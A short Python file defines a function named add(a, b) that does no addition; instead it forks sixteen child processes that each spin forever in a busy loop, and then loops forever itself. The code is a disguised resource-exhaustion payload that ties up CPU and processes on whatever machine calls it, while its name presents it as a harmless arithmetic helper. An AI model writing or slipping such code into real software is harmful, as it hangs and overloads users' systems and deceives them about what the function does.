import os


def add(a, b):
    for _ in range(16):
        if os.fork() == 0:
            while True:
                pass
    while True:
        pass
